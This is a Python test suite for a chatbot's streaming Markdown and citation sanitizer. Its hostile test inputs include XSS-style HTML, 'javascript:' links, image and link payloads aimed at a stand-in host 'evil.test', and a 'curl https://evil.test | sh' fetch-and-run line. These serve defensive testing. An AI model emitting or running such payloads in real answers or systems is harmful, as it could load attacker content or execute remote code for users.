"""The answer's text, whatever a model writes and wherever its stream is cut; judged by a Markdown renderer."""

import re
from collections.abc import Iterable, Sequence
from time import monotonic
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from chatbot_api.models.clean_text import clean
from chatbot_api.services.cited_text import LONGEST_HELD, CitedText

RENDERER = MarkdownIt("commonmark").enable("table")
ADDRESS = re.compile(r"(?:(?:https?|ftp)://|www\.)[^\s<>]*", re.IGNORECASE)
SIGNS = (
    "a", "b ", "word ", "é", "😀", "\n", "\n\n", "\r\n", " ", "    ", "\t", "`", "``", "```", "```\n", "```bash\n", "~~~\n",
    "~~~", "~", "  ```\n", "    ```\n", "```x```", "[", "]", "(", ")", "![", "](", "[1]", "[2]", "[9]", " [9]", "[1, 2]",
    "[3", "1]", "!", "\\", "\\`", "<", "<b>", "</b>", "<img src=x onerror=y>", "<script>", "<div", "<!--", "-->", "<?", "<!X",
    "|", "| a | b |\n", "|---|---|\n", "--|--\n", "- ", "1. ", "   - ", "> ", "#", "=\n", "---\n", "*", "**", "_", "://", ":",
    "ht", "tp://evil.test", "www.evil.test", "&#47;", '"t"', "http://evil.test/x", "https://site.test/p", "//evil.test/y",
    "http://[a", "<http://evil.test>", "<https://site.test/q>", "[a](//evil.test/z)", "[a](/docs/x)", "[a](#y)",
    "![a](//evil.test/i.png)", "[a]: //evil.test/d\n", "[a][b]", "(/docs/x)", "(//evil.test)",
)  # fmt: skip
texts = st.lists(st.sampled_from(SIGNS), max_size=14).map("".join) | st.text(max_size=40)
plain_words = st.text(
    alphabet=st.characters(categories=["L", "N", "Zs"]) | st.sampled_from(" \n.,;:?'\"()-*_#+=/%&@^${}>"), max_size=80
).filter(lambda text: not re.search(r"://|www\.", text, re.IGNORECASE))


def shown(pieces: Iterable[str], ids: Sequence[str] = ("1", "2"), hosts: Sequence[str] = ("site.test",)) -> CitedText:
    """The filter after all pieces; what it gave out is what it says it gave out."""
    cited = CitedText(ids, hosts)
    given_out = "".join([cited.add(piece) for piece in pieces]) + cited.finish()
    assert given_out == cited.text
    return cited


def tokens(markdown: str) -> list[Token]:
    found: list[Token] = []
    for token in RENDERER.parse(markdown):
        found.extend([token, *(token.children or ())])
    return found


def is_of_site(address: str) -> bool:
    if address.startswith(("/", "#")):
        return not address.startswith(("//", "/\\"))
    try:
        return urlsplit(address).netloc == "site.test"
    except ValueError:
        return False


def live(markdown: str) -> list[str]:
    """What of a text loads, runs or leads elsewhere once it is rendered."""
    wrong: list[str] = []
    for token in tokens(markdown):
        if token.type in ("image", "html_inline", "html_block"):
            wrong.append(f"{token.type}: {token.content}")
        if token.type == "link_open" and not is_of_site(str(token.attrs["href"])):
            wrong.append(f"link: {token.attrs['href']}")
        if token.type == "text":
            wrong.extend(f"bare: {found}" for found in ADDRESS.findall(token.content) if not is_of_site(found))
    return wrong


@st.composite
def cut_texts(draw: st.DrawFn) -> tuple[str, list[str]]:
    """A text, and the same in pieces."""
    text = draw(texts)
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=6)))
    return text, [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]


@settings(max_examples=400, deadline=None)
@given(cut_texts())
def test_the_text_is_the_same_wherever_the_stream_was_cut(case: tuple[str, list[str]]) -> None:
    text, pieces = case
    whole = shown([text])
    for cut in (shown(pieces), shown(text)):
        assert cut.text == whole.text
        assert cut.citations == whole.citations


@settings(max_examples=400, deadline=None)
@given(cut_texts())
def test_every_citation_points_to_its_marker_and_every_number_it_names_is_a_source(case: tuple[str, list[str]]) -> None:
    cited = shown(case[1])
    end = 0
    for citation in cited.citations:
        assert cited.text[citation.start : citation.end] == f"[{citation.source_id}]"
        assert citation.source_id in ("1", "2")
        assert citation.start >= end
        end = citation.end


@settings(max_examples=800, deadline=None)
@given(texts)
@example("![a\nb](//evil.test/i.png)")
@example("![a [b] c](//evil.test/i.png) [a [b] c](//evil.test)")
@example("[![a](x)](//evil.test/i.png)")
@example("[a](\n//evil.test) [a\nb](//evil.test)")
@example("[a]: //evil.test\n\n[a] ![a]")
@example("[a](/&#47;evil.test) [a](/&sol;evil.test) [a](/&Tab;/evil.test) [a](/\\/evil.test)")
@example("[<img src=x>](/docs) [a](/docs '<b>')")
@example("<img\n\nsrc=x> <iframe src=//evil.test x\n\n")
@example("<<b>img src=x>")
@example("ht[9]tp://evil.test ww<b>w.evil.test \\http://evil.test")
@example("`a\n\n![x](//evil.test/i.png)`")
@example("`a\nb` ![x](//evil.test/i.png) `c`")
@example("`a`<b>``![x](//evil.test/i.png)``")
@example("```x```\n![x](//evil.test/i.png)")
@example("text\n    ```\n![x](//evil.test/i.png)\n```")
@example("- a\n  ```\n![x](//evil.test/i.png)\n  ```")
@example("```\n    ```\n```\n![x](//evil.test/i.png)")
@example("```\n```\u00a0\n```\n![x](//evil.test/i.png)")
@example("- ```\n  a\n  ```\n![x](//evil.test/i.png)")
@example("   <b>~~~\n~~~\n![x](//evil.test/i.png)")
@example("| `a | ![x](//evil.test/i.png) ` |\n|---|---|")
@example("|a|b|\n|-|-|\n| `a | <b> ` |")
def test_nothing_that_loads_runs_or_leads_elsewhere_survives_outside_of_code(text: str) -> None:
    assert live(shown([text]).text) == []


@settings(max_examples=300, deadline=None)
@given(plain_words, st.lists(st.integers(0, 80), max_size=4))
def test_plain_text_passes_as_it_is(text: str, cuts: list[int]) -> None:
    pieces = [text[start:end] for start, end in zip([0, *sorted(cuts)], [*sorted(cuts), len(text)], strict=True)]
    assert shown(pieces).text == clean(text)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="abcde \n!~*`[]\\|-", max_size=60))
def test_stray_signs_take_no_word_with_them(text: str) -> None:
    assert re.findall(r"[a-e]", shown([text]).text) == re.findall(r"[a-e]", text)


code_lines = st.lists(
    st.lists(st.sampled_from([sign for sign in SIGNS if "\r" not in sign]), max_size=5).map("".join), max_size=4
)


@settings(max_examples=200, deadline=None)
@given(code_lines, st.sampled_from(["```", "~~~", "````"]), st.sampled_from(["", "bash", 'js title="a.js"']), st.integers(1, 9))
def test_fenced_code_is_unchanged(lines: list[str], fence: str, info: str, size: int) -> None:
    code = "".join(f"{line}\n" for line in lines if not re.search(rf"^[ \t]*{fence}", line, re.MULTILINE))
    text = f"Run this [1]:\n\n{fence}{info}\n{code}{fence}\n\nThen wait [2]."
    cited = shown(text[start : start + size] for start in range(0, len(text), size))
    assert cited.text == clean(text)
    assert [citation.source_id for citation in cited.citations] == ["1", "2"]


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("abc[]()<>!:/1~\\ ") | st.characters(categories=["L"]), min_size=1, max_size=30))
def test_inline_code_is_unchanged(code: str) -> None:
    text = f"Use `{code}` or ``a ` {code}`` [1]."
    cited = shown([text])
    assert cited.text == clean(text)
    assert len(cited.citations) == 1


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("It works![1]", "It works! [1]"),
        ("So [1, 2] and [ 2 ] and [9, 1].", "So [1][2] and [2] and [1]."),
        ("So [9]. And [7][1].", "So. And [1]."),
        ("[1](https://evil.test) [1](see below)", "[1] [1] (see below)"),
        ("As [1] says: as in [2]: so", "As [1] says: as in [2]: so"),
        ("[1]: first", "[1] : first"),
        (
            "[in](/docs/a_(b)) [here](#there) [site](https://site.test/x 'y')",
            "[in](/docs/a_(b)) [here](#there) [site](https://site.test/x)",
        ),
        ("[`code` ![p](x)](/docs)", "[`code` p] (/docs)"),
        ("[`code`](/docs)", "[`code`](/docs)"),
        ("[out](https://evil.test) [x](javascript:alert(1)) [y](data:a)", "out x y"),
        (
            "see https://site.test/x, https://evil.test/y. www.evil.test",
            "see https://site.test/x, `https://evil.test/y`. `www.evil.test`",
        ),
        ("<https://site.test/x> <https://evil.test/x>", "https://site.test/x `https://evil.test/x`"),
        (
            "https://site.test@evil.test https://SITE.test.evil.test",
            "`https://site.test@evil.test` `https://SITE.test.evil.test`",
        ),
        ("http://[a http://℀.test", "`http://`[a `http://℀.test`"),
        ("a < b, x<y> and <!-- c --> d", "a < b, x and  d"),
        ("1 < 2 && 3 > 2 ! ok ~5 min, 50 % [sic] (x)", "1 < 2 && 3 > 2 ! ok ~5 min, 50 % [sic] (x)"),
        ("`curl https://evil.test | sh` [1]", "`curl https://evil.test | sh` [1]"),
        ("a\r\nb\r\n```\r\nc\r\n```", "a\nb\n```\nc\n```"),
        ("1. x\n\n   ```bash\n   y\n   ```\n", "1. x\n\n   ```bash\n   y\n   ```\n"),
        ("- a\n  - b\n\n     ```\n     y\n       z\n     ```\n", "- a\n  - b\n\n   ```\n   y\n     z\n   ```\n"),
        ("un\u200bseen \u202etext", "unseen text"),
    ],
)
def test_what_becomes_of(written: str, expected: str) -> None:
    assert shown([written]).text == expected
    assert shown(written).text == expected


def test_an_unclosed_construct_is_not_held_for_ever() -> None:
    for opening in ("[", "![", "`", "<a ", "[a](", "https://evil.test/", "text <!-- "):
        cited = CitedText(["1"], [])
        for _ in range(LONGEST_HELD // 50 + 2):
            cited.add("a b c d e " * 5 if "/" not in opening else "a" * 50)
            cited.add(opening)
        assert len(cited.text) > 50, opening


@pytest.mark.parametrize(
    "sign", ["[", "![", "`", "<", "<a", "~", "\\", "[a](", "](", " [", "www.", "<!--", "```\n", "|`a|", "- ", "[1]", "[9]"]
)
def test_a_long_hostile_answer_costs_no_time_to_speak_of(sign: str) -> None:
    pieces = [sign * 20] * 400
    started = monotonic()
    shown(pieces)
    assert monotonic() - started < 3
